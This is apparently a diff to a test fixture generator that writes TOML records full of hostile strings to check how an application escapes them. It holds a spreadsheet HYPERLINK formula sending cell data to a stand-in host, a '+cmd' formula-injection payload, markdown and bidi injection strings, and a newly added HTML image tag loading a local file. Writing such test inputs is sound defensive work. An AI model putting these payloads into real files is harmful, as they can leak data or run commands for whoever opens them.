@@ -24,6 +24,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 FORMULAS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "＝1+1"]
 ENTITIES = "Tom &amp; Jerry &lt;b&gt; &#x202E;"
 TWO_LINES = "First line\n## Injected heading\r\n> injected quote"
+IMAGE = '<img src="file:///tmp/coopdesk-probe.png"><b>bold</b>'  # Qt would load and show it
 
 
 def toml_str(text: str) -> str:
@@ -116,6 +117,20 @@ title = {toml_str(TWO_LINES)}
 date = "2019-06-05"
 quote = "Formulas:"
 {formula_records}
+[[record]]
+id = "offence/1-hostile"
+kind = "offence"
+number = 1
+title = {toml_str(IMAGE + " offence")}
+quote = "took place"
+
+[[link]]
+from = "event/2019-05-01-hostile"
+to = "offence/1-hostile"
+relation = "concerns"
+basis = "stated"
+quote = "took place"
+
 [[link]]
 from = "event/2019-05-01-hostile"
 to = "agency/javascript"
